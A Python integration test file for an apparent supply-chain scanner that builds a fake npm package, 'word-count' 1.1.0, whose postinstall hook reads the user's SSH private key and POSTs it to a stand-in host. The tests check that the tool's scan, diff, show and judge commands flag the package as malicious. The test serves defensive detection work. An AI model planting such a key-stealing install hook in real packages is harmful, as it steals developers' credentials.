"""What can be done with a recording of packages that ran together: judged, shown, compared, put into a page."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.integration.command_line import Machine, orphans_come_here, still_running
from tests.locks import npm_lock, package
from tests.packages import build
from tests.packages.registry import Registry
from tests.packages.settled import javascript

pytestmark = [pytest.mark.native, pytest.mark.together]

STEAL = javascript(
    """
    const keys = fs.readFileSync(`${os.homedir()}/.ssh/id_ed25519`, "utf8");
    await fetch("https://intake.word-count.test/k", { method: "POST", body: keys });
    """
)


class Recorded:
    """Two scans of one lockfile, in the second of which a package has become a thief."""

    def __init__(self, machine: Machine, before: Path, after: Path) -> None:
        self.machine, self.before, self.after = machine, before, after


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Recorded]:
    folder, machine = tmp_path_factory.mktemp("packages"), Machine(tmp_path_factory.mktemp("machine"))
    words = {"index.js": "module.exports = 1\n"}
    build.npm(folder, "plain-words", words)
    build.npm(folder, "word-count", words)
    build.npm(folder, "word-count", {**words, "x.js": STEAL}, version="1.1.0", scripts={"postinstall": "node x.js"})
    with orphans_come_here(), Registry(folder.iterdir(), host="packages.test") as registry:
        machine.use(registry.npm_url, registry.pypi_url, registry.own_url)
        made = []
        for version, code in (("1.0.0", 0), ("1.1.0", 11)):
            shop, kept = machine.root / f"shop-{version}", machine.root / f"kept-{version}"
            shop.mkdir()
            entries = {
                name: package(one, (folder / f"{name}-{one}.tgz").read_bytes(),
                              resolved=f"{registry.npm_url}{name}/-/{name}-{one}.tgz")
                for name, one in (("plain-words", "1.0.0"), ("word-count", version))
            }  # fmt: skip
            (shop / "package-lock.json").write_text(npm_lock(entries))
            ended = machine.run("scan", "--no-cache", "--keep", str(kept), str(shop), timeout=240)
            assert ended.code == code, (ended.stderr, ended.stdout)
            made.append(kept / "together-1-laptop.jsonl")
        yield Recorded(machine, *made)
        assert still_running() == []


def test_two_of_them_are_compared_package_by_package(recorded: Recorded) -> None:
    ended = recorded.machine.run("diff", "--format", "json", str(recorded.before), str(recorded.after))
    assert ended.code == 11, ended.stderr
    found = json.loads(ended.stdout)
    assert [side["purl"] for side in (found["before"], found["after"])] == ["", ""]
    assert "pkg:npm/word-count@1.1.0" in found["after"]["together"]
    thefts = [told for told in found["findings"] if told["finding"]["verdict"] == "malicious"]
    assert {(told["finding"]["package"], told["known"]) for told in thefts} == {("word-count", False)}
    new = {(one["behaviour"]["verb"], one["behaviour"]["package"]) for one in found["new"]}
    assert ("send", "word-count") in new
    assert not any(package == "plain-words" for _, package in new)
    same = recorded.machine.run("diff", str(recorded.before), str(recorded.before))
    assert (same.code, "2 packages together (clean)" in same.stdout) == (0, True), same.stdout


def test_they_are_shown_and_judged_and_stand_in_a_page_once(recorded: Recorded) -> None:
    shown = recorded.machine.run("show", str(recorded.after))
    assert shown.code == 0
    assert "2 npm packages together" in shown.stdout.splitlines()[0]
    assert "BAIT LEFT: ssh" in shown.stdout
    page = recorded.machine.run("judge", "--format", "html", str(recorded.after))
    assert page.code == 11
    assert page.stdout.count('data-recording="recording-') == 1
    assert "word-count" in page.stdout
    assert "plain-words" in page.stdout
    assert "It ran in one guest with others; the recording stands at" in page.stdout


def test_what_cannot_be_done_says_what_can(recorded: Recorded, tmp_path: Path) -> None:
    alone = next(recorded.after.parent.glob("npm-word-count-1.1.0-*.jsonl"))
    ended = recorded.machine.run("diff", str(recorded.before), str(alone))
    ended.failed(2, "several packages that ran together, and the other side is of one", "baitbox check --keep")
    ended = recorded.machine.run("learn", "--output", str(tmp_path / "new"), str(recorded.after))
    ended.failed(2, "no profile can be learned", "baitbox learn TARGET")
    assert not (tmp_path / "new").exists()
